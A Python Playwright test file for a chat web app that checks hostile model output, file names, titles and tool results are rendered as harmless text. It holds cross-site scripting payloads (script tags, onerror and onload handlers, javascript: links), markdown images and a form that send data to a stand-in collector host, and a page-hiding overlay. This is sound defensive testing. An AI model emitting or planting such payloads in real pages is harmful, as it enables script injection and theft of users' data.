"""What a model, a tool or a person writes is text: nothing of it runs or fetches anything."""

import re
from collections.abc import Callable

import pytest
from playwright.sync_api import Page, expect

from tests.e2e.conftest import idle, new_words, only_for
from tests.model_server import Call, ModelServer, Pause, Say
from tests.support.browser import Complaints
from tests.support.client import Client

ATTACK = """<script>window.harmed = 1</script> <img src=x onerror="window.harmed = 2">

<svg onload="window.harmed = 3"></svg> <iframe srcdoc="<script>parent.harmed = 4</script>"></iframe>

[press](javascript:window.harmed=5) [data](data:text/html,<script>window.harmed=6</script>)

![memory](https://collector.example/?q=everything-i-know)
![again][it]

[it]: https://collector.example/second

<style>body { display: none }</style> <form action="https://collector.example"><button>Go</button></form>

<p id="composer" class="status" style="position: fixed; inset: 0">overlay</p>

The end of it.
"""


@pytest.mark.parametrize("size", [5, 5000])
def test_hostile_text_is_shown_and_does_nothing(
    signed_in: Callable[..., Page], owner: Client, model_server: ModelServer, size: int
) -> None:
    """AUT5, AUT6: in pieces of any size, while it streams and when it is stored: no script runs
    and no picture is fetched (``complaints`` sees every request to another host)."""
    words = new_words()
    chat = owner.begin(new_words())
    owner.answer(chat)
    page = signed_in()
    page.goto(f"/chat/{chat}/")
    pieces = [Say(ATTACK[at : at + size]) for at in range(0, len(ATTACK), size)]
    model_server.script(
        *(act for piece in pieces for act in (piece, Pause(0.003))), when=only_for(words)
    )
    owner.send(chat, words)
    expect(page.get_by_text("The end of it.")).to_be_visible()
    idle(page)
    check_unharmed(page)
    page.reload()
    expect(page.get_by_text("The end of it.")).to_be_visible()
    check_unharmed(page)


def check_unharmed(page: Page) -> None:
    """Nothing ran, nothing is there that could, and the remote pictures are links that say where
    they lead."""
    assert page.evaluate("window.harmed") is None
    answer = page.locator(".answer .blocks").last
    expect(
        answer.locator("script, img, svg, iframe, style, form, [style], [onload]")
    ).to_have_count(0)
    expect(answer.locator("a[href^=javascript], a[href^=data]")).to_have_count(0)
    link = answer.get_by_role("link", name="memory")
    expect(link).to_have_text(re.compile("collector.example"))
    expect(page.locator("#composer")).to_have_count(1)


def test_hostile_names_results_and_titles_are_text(
    signed_in: Callable[..., Page], owner: Client, model_server: ModelServer
) -> None:
    """A file's name, a tool's result, a command's argument and a conversation's title."""
    words = new_words()
    name = "<img src=x onerror=window.harmed=7>.md"
    model_server.script(
        Call("write_file", {"path": name, "content": "<script>window.harmed = 8</script>"}),
        Call("read_file", {"path": name}),
        when=only_for(words),
    )
    model_server.script("Done.", when=only_for(words))
    chat = owner.begin(f"<img src=x onerror=window.harmed=9> {words}")
    owner.answer(chat)
    owner.post(f"/chat/{chat}/rename", title="<img src=x onerror=window.harmed=10>")
    owner.send(chat, "/model <img src=x onerror=window.harmed=11>")
    page = signed_in()
    page.goto(f"/chat/{chat}/")
    expect(page.get_by_role("heading", level=1)).to_have_text(
        "<img src=x onerror=window.harmed=10>"
    )
    page.evaluate("for (const row of document.querySelectorAll('details')) row.open = true")
    expect(page.get_by_text("<script>window.harmed = 8</script>").first).to_be_visible()
    assert page.evaluate("window.harmed") is None
    expect(page.locator("main img")).to_have_count(0)


def test_without_a_connection_the_offline_page_says_so(
    signed_in: Callable[..., Page], complaints: Complaints
) -> None:
    """The browser keeps one page, as a stranger sees it, and shows it when Jenny is away."""
    complaints.allow("net::ERR")
    page = signed_in(service_workers="allow")
    page.goto("/chat/")
    page.evaluate("navigator.serviceWorker.ready.then(() => true)")
    kept = page.evaluate(
        """async () => {
          const names = await caches.keys();
          const pages = await Promise.all(names.map(async name => {
            const kept = await caches.open(name);
            const requests = await kept.keys();
            return Promise.all(requests.map(async one => (await kept.match(one)).text()));
          }));
          return pages.flat().join('');
        }"""
    )
    assert "Jenny is not reachable" in kept
    assert "owner" not in kept
    page.context.set_offline(True)
    page.goto("/settings/account/")
    expect(page.get_by_role("heading", name="Jenny is not reachable")).to_be_visible()
